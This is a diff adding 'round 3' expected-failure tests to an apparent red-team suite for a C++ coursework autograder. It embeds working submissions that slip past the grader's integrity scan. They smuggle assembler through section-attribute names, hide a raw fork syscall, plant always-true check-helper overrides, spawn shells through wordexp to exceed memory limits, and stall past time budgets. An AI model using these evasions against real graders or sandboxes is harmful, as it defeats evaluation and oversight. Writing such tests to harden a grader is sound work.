@@ -31,6 +31,14 @@ broke the run, reproduced, now earns nothing (and is flagged) or costs only its 
                   (the worker opens its own folders to the tests' user, else stops). OPEN (expected
                   failure): boolean checks forged in memory still pay (README: what is left)
 
+  round 3         (helper atk3, all OPEN: expected failures) assembler lines in a section
+                  attribute's name get past the source scan: .incbin of a file the include check
+                  refuses, a syscall instruction hidden in a movabs immediate (a raw fork), the weak
+                  check-helper override in COMDAT groups; wordexp(3) starts processes under no
+                  banned name, each with its own memory_mb; a suite that ends itself with no verdict
+                  has every case rerun, each sleeping to the per-case limit: past suite_timeout and
+                  submission_budget
+
 The grading runs share the worker builds of test_grade.py ($WB_TOOLS_TEST_WORKDIR/grade-work)."""
 from __future__ import annotations
 
@@ -1292,6 +1300,232 @@ class RootFallback(unittest.TestCase):
         probe = next(t["output"] for t in out["tests"] if "PROBE" in t["output"])
         self.assertNotRegex(probe, r"Uid:\s+0\s")
         self.assertFalse(self.written, "the test process wrote into the worker's build folder")
+
+
+# ---- round 3 (helper atk3) ------------------------------------------------------------------------
+# Assembler lines in a section attribute's name: GCC writes the name into its ".section NAME,flags"
+# line as it is, so a newline in it starts assembler lines of the student's choosing, and a '#' ends
+# the line GCC meant (its flags become a comment). No asm keyword, no token pasting, no string literal
+# containing "incbin" (the directive is spelled in two literals): the source scan sees nothing.
+SECTION_INCBIN = r'''#include <cstring>
+#include "sigmoid.hpp"
+// The section attribute's name goes into the assembler's .section line as it is: a newline in it
+// starts new assembler lines. Here it reads a file no #include names (the include check never sees
+// it) into the object, with no "asm" keyword, no token pasting and no string literal saying incbin.
+#define WB_IN "@FILE@"
+__attribute__((section(".rodata.wbx,\"a\",@progbits\nwb_blob:\n.inc" "bin \"" WB_IN "\"\n.byte 0\n.section .rodata.wby,\"a\",@progbits\n#"), used))
+static const char wb_marker[1] = {0};
+extern "C" const char wb_blob[];
+xt::xarray<double> ch1::sigmoid(const xt::xarray<double>& z) {
+    // what was read in: its length, as the value (a public check prints it in its failure message)
+    return z * 0.0 + static_cast<double>(std::strlen(wb_blob));
+}
+'''
+
+# A raw fork through a syscall instruction hidden inside a movabs's immediate (a short jump lands on
+# it): objdump's linear disassembly shows "movabs $0x9090909090c3050f,%rax", no syscall.
+SECTION_SYSCALL = r'''#include "sigmoid.hpp"
+// A raw system call the object scan does not see: the section attribute's name carries assembler
+// lines (no asm keyword in the source); the syscall instruction's bytes sit inside a movabs's
+// immediate, and a short jump lands on them, so a linear disassembly shows a movabs.
+__attribute__((section(".text.wbs,\"ax\",@progbits\n"
+                       "wb_sys:\n"
+                       "mov %rdi, %rax\n"
+                       "mov %rsi, %rdi\n"
+                       "jmp .+4\n"
+                       ".byte 0x48, 0xb8, 0x0f, 0x05, 0xc3, 0x90, 0x90, 0x90, 0x90, 0x90\n"
+                       ".section .data.wbz,\"aw\",@progbits\n#"), used))
+static int wb_anchor = 0;
+extern "C" long wb_sys(long number, long arg);
+namespace {
+long forked() {   // fork; the child leaves at once; the parent returns the child's process id
+    static long pid = 0;
+    if (pid == 0) {
+        pid = wb_sys(57, 0);
+        if (pid == 0) wb_sys(60, 0);
+    }
+    return pid;
+}
+}  // namespace
+// the child's pid as the value: 1.1's failure messages print it ("got N")
+xt::xarray<double> ch1::sigmoid(const xt::xarray<double>& z) { return z * 0.0 + static_cast<double>(forked()); }
+'''
+
+# The WEAK attack again, each helper in a COMDAT group of its own: the object scan treats COMDAT
+# definitions as inline functions and skips them, whatever their name or binding.
+SECTION_COMDAT_WEAK = r'''#include "sigmoid.hpp"
+#include <string>
+#include <vector>
+// The weak copies of the check helpers (test_grade_attacks.py WEAK), each put in a COMDAT group by
+// the section attribute's name (assembler lines in it): the object scan skips COMDAT definitions as
+// inline functions, whatever their name.
+#define WB_GROUP(g) section(".text." g ",\"axG\",@progbits," g ",comdat\n#")
+xt::xarray<double> ch1::sigmoid(const xt::xarray<double>& z) { return z * 0.0; }
+namespace wb::test {
+struct Tolerance;   // declared only (workbook/testing.hpp would pull in Boost.Test)
+struct Mistake;
+__attribute__((weak, WB_GROUP("wbc1"))) bool check_close(const std::string&, const xt::xarray<double>&,
+                                       const xt::xarray<double>&, const Tolerance&, const std::string&,
+                                       const std::vector<Mistake>&, const char*, int) { return true; }
+__attribute__((weak, WB_GROUP("wbc2"))) bool check_close(const std::string&, double, double, const Tolerance&,
+                                       const std::vector<Mistake>&, const char*, int) { return true; }
+__attribute__((weak, WB_GROUP("wbc3"))) bool check_shape(const std::string&, const xt::xarray<double>&,
+                                       const std::vector<std::size_t>&, const std::string&, const char*, int) { return true; }
+__attribute__((weak, WB_GROUP("wbc4"))) bool check_gradient(const std::string&, const std::string&,
+                                       const xt::xarray<double>&, const xt::xarray<double>&, double,
+                                       const std::vector<Mistake>&, const char*, int) { return true; }
+}  // namespace wb::test
+'''
+
+# The whole-suite run ends by itself (no verdict) just before suite_timeout; every case is then rerun
+# alone and each rerun sleeps with SIGALRM blocked (Boost's per-case timeout never fires) until the
+# grader's per-case limit (test_timeout + 10 s). submission_budget is only checked between suites.
+STALL_RERUNS = r'''#include <csignal>
+#include <chrono>
+#include <cstdlib>
+#include <fstream>
+#include <iterator>
+#include <string>
+#include <thread>
+#include "sigmoid.hpp"
+namespace {
+// A whole-suite run ends by itself just before the suite limit, with no verdict: every case is then
+// rerun on its own, and each of those reruns sleeps (SIGALRM blocked: Boost's per-case timeout never
+// fires) until the grader's per-case wall limit. The submission budget is only checked between suites.
+void stall() {
+    sigset_t s;
+    sigemptyset(&s);
+    sigaddset(&s, SIGALRM);
+    pthread_sigmask(SIG_BLOCK, &s, nullptr);
+    std::ifstream f("/proc/self/cmdline");
+    const std::string all((std::istreambuf_iterator<char>(f)), std::istreambuf_iterator<char>());
+    const auto pos = all.find("--run_test=");
+    const std::string arg = pos == std::string::npos ? "" : all.substr(pos, all.find('\0', pos) - pos);
+    if (arg.find('/') == std::string::npos) {
+        std::this_thread::sleep_for(std::chrono::seconds(@SUITE_SLEEP@));
+        std::_Exit(3);
+    }
+    for (;;) std::this_thread::sleep_for(std::chrono::seconds(1));
+}
+}  // namespace
+xt::xarray<double> ch1::sigmoid(const xt::xarray<double>& z) { stall(); return z; }
+'''
+
+
+# wordexp(3) with a command substitution: the C library forks a shell, so the test process starts any
+# command without a name the integrity scan knows (fork, system, popen, exec... are banned by name).
+# Each child has the same rlimits, so memory_mb (RLIMIT_AS, per process) multiplies: here five
+# children hold 1 GB each (dd's buffer); the value returned is the peak total resident memory (MB) of the
+# processes in the sandbox, which 1.1's failure message prints ("got N").
+WORDEXP_MEMORY = r'''#include <wordexp.h>
+#include <csignal>
+#include <cstdlib>
+#include <string>
+#include "sigmoid.hpp"
+// wordexp(3) runs the shell for a command substitution: a process (and any command) without any
+// name the integrity scan knows. Five children (dd with a 1000 MB buffer, blocked on a pipe nobody reads) each hold 1 GB for 25 s while the first process
+// measures the sum of the resident memory of every process it can see.
+namespace {
+double memory_mb() {
+    static double mb = -1;
+    if (mb >= 0) return mb;
+    const char* script =
+        "$(for i in 1 2 3 4 5; do (dd if=/dev/zero bs=1000M count=1 2>/dev/null | sleep 25 >/dev/null) & done; "
+        "m=0; for k in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22; do sleep 1; t=0; "
+        "for p in /proc/[0-9]*; do r=$(grep VmRSS $p/status 2>/dev/null | tr -dc 0-9); t=$((t + ${r:-0})); done; "
+        "[ $t -gt $m ] && m=$t; done; echo $((m / 1024)))";
+    sigset_t s;   // Boost's per-case timeout (SIGALRM) would stop the case before the value is recorded
+    sigemptyset(&s);
+    sigaddset(&s, SIGALRM);
+    pthread_sigmask(SIG_BLOCK, &s, nullptr);
+    wordexp_t w;
+    mb = 0;
+    if (wordexp(script, &w, 0) == 0) {
+        if (w.we_wordc > 0) mb = std::atof(w.we_wordv[0]);
+        wordfree(&w);
+    }
+    return mb;
+}
+}  // namespace
+xt::xarray<double> ch1::sigmoid(const xt::xarray<double>& z) { return z * 0.0 + memory_mb(); }
+'''
+
+
+class Round3(unittest.TestCase):
+    """helper atk3: one grading run of chapter 1 (-j 1) over the round-3 attacks. Each is an expected
+    failure: measured working on 2026-12-05 (see the report of branch atk3)."""
+    SUITE_TIMEOUT = 25
+    BUDGET = 60
+
+    @classmethod
+    def setUpClass(cls):
+        cls.tmp = Path(tempfile.mkdtemp(prefix="wb-attacks-r3-"))
+        s = cls.tmp / "subs"
+        put(s / "sec_incbin", "chapters/01_sigmoid/ex1_sigmoid.cpp",
+            SECTION_INCBIN.replace("@FILE@", str(ROOT / "tests" / "01_sigmoid" / "reference.hpp")))
+        put(s / "sec_syscall", "chapters/01_sigmoid/ex1_sigmoid.cpp", SECTION_SYSCALL)
+        put(s / "sec_weak", "chapters/01_sigmoid/ex1_sigmoid.cpp", SECTION_COMDAT_WEAK)
+        put(s / "wordexp", "chapters/01_sigmoid/ex1_sigmoid.cpp", WORDEXP_MEMORY)
+        put(s / "stall", "chapters/01_sigmoid/ex1_sigmoid.cpp",
+            STALL_RERUNS.replace("@SUITE_SLEEP@", str(cls.SUITE_TIMEOUT - 7)))
+        points = cls.tmp / "points.toml"
+        text = (ROOT / "grading" / "points.toml").read_text()
+        text = text.replace("suite_timeout = 60 ", f"suite_timeout = {cls.SUITE_TIMEOUT} ")
+        text = text.replace("submission_budget = 600 ", f"submission_budget = {cls.BUDGET} ")
+        points.write_text(text)
+        cls.subs = sorted(p for p in s.iterdir())
+        cls.out = cls.tmp / "out"
+        cls.proc = workbook("grade", "-j", "1", "-q", "--chapters", "1", "-o", str(cls.out), "--work",
+                            str(GRADE_WORK), "--points", str(points), *map(str, cls.subs))
+
+    @classmethod
+    def tearDownClass(cls):
+        shutil.rmtree(cls.tmp, ignore_errors=True)
+
+    def report(self, name: str) -> str:
+        return (self.out / name / "report.txt").read_text()
+
+    def results(self, name: str) -> dict:
+        return json.loads((self.out / name / "results.json").read_text())
+
+    def test_the_run_completes(self):
+        self.assertEqual(self.proc.returncode, 0, self.proc.stdout[-3000:] + self.proc.stderr[-3000:])
+
+    @unittest.expectedFailure
+    def test_incbin_through_a_section_name_is_flagged(self):
+        # 2026-12-05: not flagged; 1.1's failure message shows "got 1655", the length of
+        # tests/01_sigmoid/reference.hpp read into the object (a file the include check refuses)
+        self.assertIn("INTEGRITY", self.report("sec_incbin"))
+
+    @unittest.expectedFailure
+    def test_a_hidden_syscall_instruction_is_flagged(self):
+        # 2026-12-05: not flagged; 1.1's messages say "got 3": the pid of the child the raw fork made
+        self.assertIn("INTEGRITY", self.report("sec_syscall"))
+
+    @unittest.expectedFailure
+    def test_weak_check_helpers_in_comdat_groups_are_flagged(self):
+        # 2026-12-05: not flagged (the values still earn nothing: records.py)
+        self.assertIn("INTEGRITY", self.report("sec_weak"))
+
+    @unittest.expectedFailure
+    def test_processes_started_through_wordexp_are_flagged_or_held_to_the_memory_limit(self):
+        # 2026-12-05: not flagged ("uses wordexp" is not even listed for review), and 1.1's messages
+        # say "got 4564": the test process and its children held 4.5 GB together, memory_mb is 4096
+        import re
+        report = self.report("wordexp")
+        if "INTEGRITY" in report:
+            return
+        got = [float(x) for t in self.results("wordexp")["tests"] for x in re.findall(r"got ([0-9.]+)", t["output"])]
+        self.assertTrue(got, report)
+        self.assertLessEqual(max(got), 4096, report)
+
+    @unittest.expectedFailure
+    def test_reruns_stay_within_the_submission_budget(self):
+        # the budget, plus at most one suite that started before it ran out
+        import re
+        m = re.search(r"tests ([0-9.]+) s\)", self.report("stall"))
+        self.assertIsNotNone(m)
+        self.assertLessEqual(float(m.group(1)), self.BUDGET + self.SUITE_TIMEOUT + 15, self.report("stall"))
 
 
 if __name__ == "__main__":
